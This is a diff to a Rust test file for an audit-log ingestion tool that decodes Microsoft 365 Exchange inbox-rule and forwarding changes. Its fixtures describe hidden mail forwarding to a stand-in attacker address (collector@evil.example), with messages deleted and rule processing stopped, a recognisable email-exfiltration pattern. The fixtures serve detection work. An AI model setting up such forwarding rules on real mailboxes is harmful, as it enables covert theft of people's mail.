@@ -5,8 +5,8 @@ use std::net::IpAddr;
 use std::sync::Arc;
 
 use tokentrail_ingest::{
-    decode, CsvLayout, DecodeError, DecodeOptions, Decoded, DecodedRecord, Family, OtherRecord,
-    Payload, Shape,
+    decode, CsvLayout, DecodeError, DecodeOptions, Decoded, DecodedRecord, Family, MailboxChange,
+    OtherRecord, Payload, Shape,
 };
 use tokentrail_model::{
     Access, AccessSource, Actor, ClientAuthMethod, Device, Guid, Position, SessionId, SignIn,
@@ -621,6 +621,7 @@ fn ual_teams_app_only_and_other_records() {
             kind: "ual:AzureActiveDirectory".into(),
             operation: s("Update user."),
             time: Some(ts("2024-03-05T12:01:00Z")),
+            mailbox_change: None,
         })
     );
 }
@@ -782,6 +783,7 @@ fn sekoia_test_case() {
             kind: "test-case".into(),
             operation: None,
             time: None,
+            mailbox_change: None,
         })
     );
     let opts = DecodeOptions {
@@ -842,6 +844,7 @@ fn other_readable_records() {
                 kind: kind.into(),
                 operation: operation.map(str::to_owned),
                 time: time.map(ts),
+                mailbox_change: None,
             }),
             "{text}"
         );
@@ -891,4 +894,88 @@ fn unreadable_records_are_errors_with_a_reason() {
             reason: "not a JSON object".into()
         })
     );
+}
+
+/// Exchange admin cmdlets (RecordType 1) that change inbox rules or forwarding keep who, from
+/// where, in which session and with which parameters; other admin cmdlets keep none of it.
+#[test]
+fn ual_inbox_rule_and_forwarding_changes() {
+    let d = json_ok(&format!(
+        r#"{{"CreationTime":"2024-03-05T12:10:00","Id":"7c7c7c7c-0000-4000-8000-00000000007c",
+            "Operation":"New-InboxRule","RecordType":1,"ResultStatus":"True","UserType":0,
+            "Workload":"Exchange","UserKey":"{USER}","UserId":"adele@contoso.example",
+            "ClientIP":"203.0.113.50:51234","ObjectId":"EURPR07A010.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/contoso.onmicrosoft.com/adele\\Invoices",
+            "AppAccessContext":{{"AADSessionId":"{SESSION}","UniqueTokenId":"{UTI}"}},
+            "Parameters":[{{"Name":"Name","Value":"Invoices"}},{{"Name":"ForwardTo","Value":"collector@evil.example"}},
+                          {{"Name":"DeleteMessage","Value":"True"}},{{"Name":"StopProcessingRules"}}],
+            "SessionId":"984c0958-0631-4b90-b116-15094fc36847"}}"#
+    ));
+    assert_eq!(d.shape, Shape::UalRecord);
+    assert_eq!(d.family(), Family::Other);
+    let expected = MailboxChange {
+        user: s("adele@contoso.example"),
+        user_id: s(USER),
+        ip: ip("203.0.113.50"),
+        session_id: SessionId::parse(SESSION),
+        token_id: TokenId::parse(UTI),
+        object: s("EURPR07A010.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/contoso.onmicrosoft.com/adele\\Invoices"),
+        parameters: vec![
+            ("Name".into(), "Invoices".into()),
+            ("ForwardTo".into(), "collector@evil.example".into()),
+            ("DeleteMessage".into(), "True".into()),
+            ("StopProcessingRules".into(), String::new()),
+        ],
+        source: src(),
+    };
+    assert_eq!(
+        d.event,
+        Decoded::Other(OtherRecord {
+            family: Family::Other,
+            kind: "ual:Exchange".into(),
+            operation: s("New-InboxRule"),
+            time: Some(ts("2024-03-05T12:10:00Z")),
+            mailbox_change: Some(Box::new(expected)),
+        })
+    );
+    assert_eq!(d.source(), Some(&src()));
+
+    // Without an AppAccessContext the record's own SessionId is the session.
+    let d = json_ok(
+        r#"{"CreationTime":"2024-03-05T12:11:00","Id":"x","Operation":"Set-Mailbox","RecordType":1,
+            "Workload":"Exchange","UserKey":"10032000ABCDEF12","UserId":"adele@contoso.example",
+            "ClientIP":"[2001:db8::5]:443","ObjectId":"adele@contoso.example","SessionId":"sess-1",
+            "Parameters":[{"Name":"Identity","Value":"adele@contoso.example"},
+                          {"Name":"ForwardingSmtpAddress","Value":"smtp:collector@evil.example"},
+                          {"Name":"DeliverToMailboxAndForward","Value":"False"}]}"#,
+    );
+    let Decoded::Other(other) = &d.event else {
+        panic!("expected an other record, got {:?}", d.event)
+    };
+    let change = other.mailbox_change.as_deref().unwrap();
+    assert_eq!(
+        change.user_id, None,
+        "a UserKey that is no GUID is no object id"
+    );
+    assert_eq!(change.ip, ip("2001:db8::5"));
+    assert_eq!(change.session_id, SessionId::parse("sess-1"));
+    assert_eq!(change.token_id, None);
+    assert_eq!(change.object, s("adele@contoso.example"));
+    assert_eq!(
+        change.parameters[1],
+        (
+            "ForwardingSmtpAddress".to_string(),
+            "smtp:collector@evil.example".to_string()
+        )
+    );
+
+    let d = json_ok(
+        r#"{"CreationTime":"2024-03-05T12:12:00","Id":"y","Operation":"Set-TransportConfig","RecordType":1,
+            "Workload":"Exchange","UserId":"admin@contoso.example","ClientIP":"192.0.2.1",
+            "Parameters":[{"Name":"SmtpClientAuthenticationDisabled","Value":"True"}]}"#,
+    );
+    let Decoded::Other(other) = &d.event else {
+        panic!("expected an other record, got {:?}", d.event)
+    };
+    assert_eq!(other.mailbox_change, None);
+    assert_eq!(d.source(), None);
 }
